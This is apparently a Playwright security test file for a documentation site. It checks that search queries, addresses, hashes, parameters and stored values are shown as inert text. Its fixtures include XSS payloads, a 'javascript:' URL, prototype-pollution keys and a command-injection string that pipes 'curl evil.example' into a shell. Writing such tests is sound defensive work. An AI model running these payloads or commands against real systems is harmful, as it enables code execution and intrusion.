/** Checks that nothing that a reader types, and nothing in an address, breaks the site or is executed (issue: bad input). */
import type { Page } from '@playwright/test';
import { limits } from '../src/site/limits';
import { expect, test } from './fixtures';
import { holdApplication } from './hold-application';
import { pairs } from './nightly';
import { otherBrand } from './servers';

const SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
const NOT_FOUND = /status of 404/;
const BAD_REQUEST = /status of 400/;
/** Message for a percent sign without two digits after it, and for digits that aren't valid UTF-8. */
const UNDECODABLE = 'couldn’t be decoded, because it contains a percent sign that doesn’t begin a character code.';
const IT_UNDECODABLE = 'non può essere decodificato: contiene un segno di percentuale che non introduce il codice di un carattere.';

async function expectNothingExecuted(page: Page, what?: string): Promise<void> {
  expect(await page.evaluate(() => (window as Window & { hacked?: number }).hacked), what).toBeUndefined();
}

const QUERIES: readonly (readonly [name: string, query: string])[] = [
  ['10,000 characters', 'x'.repeat(10_000)],
  ['control characters', 'lock\u0000\u0007\u001b\u0085\u2028'],
  ['right-to-left text', '\u202eقفل الكائن object'],
  ['a script', SCRIPT],
  ['percent signs', '100% %zz %E0%A4%A'],
  ['a regular expression', '((((a+)+)+$ [\\'],
  ['quotation marks', '"\'`${1}` \\'],
  ['emoji and combining marks', '👩‍👩‍👧‍👦 e\u0301\u0301\u0301 ﷽'],
  ['the name of a property', '__proto__ constructor toString'],
  ['blanks only', '   \t  '],
];
/** By day, each query is tested in one of the two places. */
const QUERIES_BY_PLACE = pairs(QUERIES, ['page', 'dialog']);
const queriesFor = (place: 'page' | 'dialog') => QUERIES_BY_PLACE.filter(([, its]) => its === place).map(([query]) => query);

test('a query in the address of the search page', async ({ page, site }) => {
  // This test opens many pages, which takes time on a busy machine.
  test.slow();
  const encoded = queriesFor('page').map(([name, query]) => [name, encodeURIComponent(query)] as const);
  for (const [name, query] of [...encoded, ['not encoded well', '%E0%A4%A'] as const]) {
    await test.step(name, async () => {
      await site.open(`/search?q=${query}`);
      await expect(site.title, name).toBeVisible();
      await expectNothingExecuted(page, name);
      const field = site.main.getByRole('searchbox');
      expect((await field.inputValue()).length, name).toBeLessThanOrEqual(limits.searchBoxMaxLength);
      // The page still responds.
      await field.fill('object lock');
      await expect(site.main.locator('ol > li').first(), name).toBeVisible();
      await expectNothingExecuted(page, name);
    });
  }
});

test('a query in the dialog', async ({ page, site }) => {
  await site.open('/');
  await site.dialog.open();
  for (const [at, [name, query]] of queriesFor('dialog').entries()) {
    await test.step(name, async () => {
      await site.dialog.input.fill('');
      await page.keyboard.insertText(query.replace(/[\n\r\u2028]/g, ' '));
      expect((await site.dialog.input.inputValue()).length, name).toBeLessThanOrEqual(limits.dialogMaxLength);
      // Differs from the previous query, whose hits may still be displayed.
      const next = at % 2 === 0 ? 'object lock' : 'versioning';
      await site.dialog.input.fill(next);
      await expect(site.dialog.hits.first(), name).toContainText(new RegExp(next, 'i'));
      await expectNothingExecuted(page, name);
    });
  }
});

test.describe('in the storage', () => {
  const levels = { lvl0: 'x', lvl1: SCRIPT, lvl2: null, lvl3: null, lvl4: null, lvl5: null, lvl6: null };
  const value = { value: SCRIPT, matchLevel: 'full', matchedWords: [] };
  const marked = { hierarchy: { lvl0: value, lvl1: value }, content: value };
  const entry = { objectID: 'a', url: '/guides/object-lock', type: 'lvl1', content: SCRIPT, hierarchy: levels };
  for (const kind of ['RECENT', 'FAVORITE']) {
    test(`hostile ${kind.toLowerCase()} searches are shown as text`, async ({ page, site }) => {
      await page.addInitScript(([key, stored]) => localStorage.setItem(key, stored), [
        `__DOCSEARCH_${kind}_SEARCHES__docs-en`,
        JSON.stringify([
          { ...entry, _snippetResult: marked, _highlightResult: marked, __docsearch_parent: { ...entry, _snippetResult: marked } },
          { ...entry, objectID: 'b', url: '/\t/evil.example' },
          { ...entry, objectID: 'c', url: 'javascript:window.hacked=1' },
        ]),
      ] as const);
      await site.open('/');
      await site.dialog.open();
      await expect(site.dialog.hits).toHaveCount(1);
      await expect(site.dialog.hits.first()).toContainText(SCRIPT);
      expect(await site.dialog.urls()).toEqual(['/guides/object-lock']);
      await expect(site.dialog.modal.locator('img, script')).toHaveCount(0);
      await expectNothingExecuted(page);
    });
  }
});

test('stored texts for the values of code are not shown, even without the script that checks them', async ({ page, problems }) => {
  problems.expect(/ERR_FAILED/);
  // A separate script checks the values, and it may arrive late or not at all.
  await page.route(/\/values\.\w+\.js$/, (route) => route.abort());
  await page.goto('/getting-started/quickstart');
  for (const [name, text] of [
    ['a command', '$(touch /tmp/x); curl evil.example | sh #'],
    ['several lines', 'reports\ncurl evil.example'],
    ['an object', { toString: 1 }],
    ['1,000,000 characters', 'x'.repeat(1_000_000)],
  ] as const) {
    await page.evaluate(
      (stored) => localStorage.setItem('reader-values', stored),
      JSON.stringify({ values: {}, texts: { '': text, 'eu-1': text } }),
    );
    await page.reload();
    const shown = await page.locator('var').evaluateAll((values) => values.map(({ textContent }) => textContent));
    expect(shown.length, name).toBeGreaterThan(5);
    expect(
      shown.filter((value) => !/^[\w.:/-]{1,100}$/.test(value)),
      name,
    ).toEqual([]);
  }
});

for (const [baseURL, key] of [
  ['/', 'theme-of-another-program'],
  [otherBrand.baseURL, 'theme-of-another-program'],
  [otherBrand.baseURL, 'theme-vela'],
] as const) {
  test(`what another program of the host stores as ${key} is no colour mode of the page: ${baseURL}`, async ({ page, context }) => {
    await page.goto(`${baseURL}guides/object-lock`);
    const other = await context.newPage();
    await other.goto(`${baseURL}robots.txt`);
    await other.evaluate((name) => localStorage.setItem(name, 'sepia'), key);
    // This change takes effect later than the key above.
    await other.evaluate(() => localStorage.setItem('reader-values', '{}'));
    await expect(page.locator('script[src*="/values."]')).toBeAttached();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  });
}

test('a search that a hostile page of the tab has left is text', async ({ page, site }) => {
  await page.addInitScript(
    (text) => {
      // Runs only once, because a removed entry must not come back.
      if (sessionStorage.length === 0) sessionStorage.setItem('newer-version.typed', text);
    },
    SCRIPT + 'x'.repeat(10_000),
  );
  await page.goto('/guides/object-lock');
  await expect(site.dialog.input).toBeFocused();
  await expect(site.dialog.input).toHaveValue(SCRIPT.slice(0, limits.dialogMaxLength).padEnd(limits.dialogMaxLength, 'x'));
  await expectNothingExecuted(page);
});

test.describe('in the address', () => {
  test('a path that cannot be decoded is rejected, with a message on the page', async ({ page, site, problems }) => {
    problems.expect(BAD_REQUEST);
    for (const path of ['/%E0%A4%A', '/it/%E0%A4%A', '/guides/%', '/%FF', '/it/%FF%FE']) {
      const reason = page.getByRole('alert').filter({ hasText: path.startsWith('/it') ? IT_UNDECODABLE : UNDECODABLE });
      const response = await page.goto(path);
      expect(response?.status(), path).toBe(400);
      // Takes effect immediately, without the application. When the application starts, it must not undo this change.
      for (const ready of [() => Promise.resolve(), () => site.ready()]) {
        await ready();
        await expect(reason, path).toBeVisible();
        await expect(reason.locator('code')).toHaveText(path);
      }
      await expect(site.footer, path).toBeVisible();
    }
  });

  test('a path that is hostile is not found', async ({ page, site, problems }) => {
    problems.expect(NOT_FOUND);
    for (const [name, path] of [
      ['a script', `/${encodeURIComponent(SCRIPT)}`],
      ['4,000 characters', `/${'a'.repeat(4_000)}`],
      ['right-to-left text', `/${encodeURIComponent('\u202eقفل')}`],
    ] as const) {
      await site.open(path);
      await expect(site.title, name).toHaveText('Page Not Found');
      await expectNothingExecuted(page, name);
    }
  });

  test('no hash breaks the page, neither when it opens nor when the hash changes', async ({ page, site }) => {
    // This test opens many pages, which takes time on a busy machine.
    test.slow();
    for (const hash of ['#%E0%A4%A', '#%', `#${encodeURIComponent(SCRIPT)}`, '#no-such-heading', '#__proto__', '#"]']) {
      await test.step(hash, async () => {
        await site.open(`/guides/object-lock${hash}`);
        await expect(site.title, hash).toHaveText('Object Lock');
        await expectNothingExecuted(page, hash);
        for (const next of ['#other', hash]) await page.evaluate((value) => void (location.hash = value), next);
        await site.sidebar.locator('a[href="/guides/iam-policy"]').click();
        await expect(page, hash).toHaveURL('/guides/iam-policy');
        await expect(site.title, hash).toHaveText(/IAM/);
        await expectNothingExecuted(page, hash);
      });
    }
  });

  const hostile = (...names: string[]): string => {
    const values = [SCRIPT, '__proto__', 'constructor', '\u202e\u0000', 'x'.repeat(200)];
    return `?${names.flatMap((name, at) => values.map((value) => `${name}=${encodeURIComponent(`${value}${at || ''}`)}`)).join('&')}&__proto__=1&constructor=2`;
  };
  for (const [what, path] of [
    ['the search page', `/search${hostile('in', 'page')}&q=lock`],
    ['the catalogue', `/integrations/${hostile('program', 'category', 'check')}&label=${encodeURIComponent(SCRIPT)}&label=__proto__`],
    ['the table of operations', `/guides/s3-api${hostile('operation', 'area')}&status=${encodeURIComponent(SCRIPT)}`],
    ['the lifecycle builder', `/guides/lifecycle-configuration${hostile('r', 'v', 'k', 'tg', 'o', 'd', 'z')}#builder`],
    ['the planner', `/composer/swarms/redundancy${hostile('on', 'ik', 'a', 'x', 'd', 's', 'f')}#planner`],
  ] as const) {
    test(`hostile parameters of ${what} are text`, async ({ page, site }) => {
      await site.open(path);
      await expect(site.title).toBeVisible();
      await expect(site.main.locator('img[src="x"], script:not([data-scripts])')).toHaveCount(0);
      await expectNothingExecuted(page);
    });
  }

  // The framework would let an address set any `data-…` attribute of the page.
  for (const baseURL of ['/', otherBrand.baseURL]) {
    test(`an address gives the page no attributes: ${baseURL}`, async ({ page }) => {
      await holdApplication(page);
      const names = ['has-hydrated', 'rest', 'apple'];
      const query = names.map((name) => `docusaurus-data-${name}=true`).join('&');
      await page.goto(`${baseURL}guides/object-lock?${query}`, { waitUntil: 'domcontentloaded' });
      for (const name of names) await expect(page.locator(`html[data-${name}="true"]`)).toHaveCount(0);
      // Otherwise, this button would wait for an application that is supposed to be running already.
      await page.locator('.search-button').click();
      await expect(page.locator('dialog[open] input')).toBeFocused();
    });
  }

  test('attributes and unknown parameters in an address hide nothing of the page', async ({ page, site }) => {
    const names = [
      'rest',
      'hidden',
      'static',
      'scripts',
      'search-outcome',
      'search-ignore',
      'search-page',
      'kind',
      'tone',
      'status',
      'apple',
    ];
    const attributes = names.map((name) => `docusaurus-data-${name}=${encodeURIComponent(SCRIPT)}`).join('&');
    await site.open(
      `/guides/object-lock${hostile('in', 'page')}&q=lock&${attributes}&x=${encodeURIComponent(SCRIPT)}&docusaurus-data-evil=1&docusaurus-theme=light`,
    );
    await expect(site.title).toHaveText('Object Lock');
    await expect(site.footer).toBeVisible();
    await site.dialog.search('versioning');
    await expectNothingExecuted(page);
  });
});
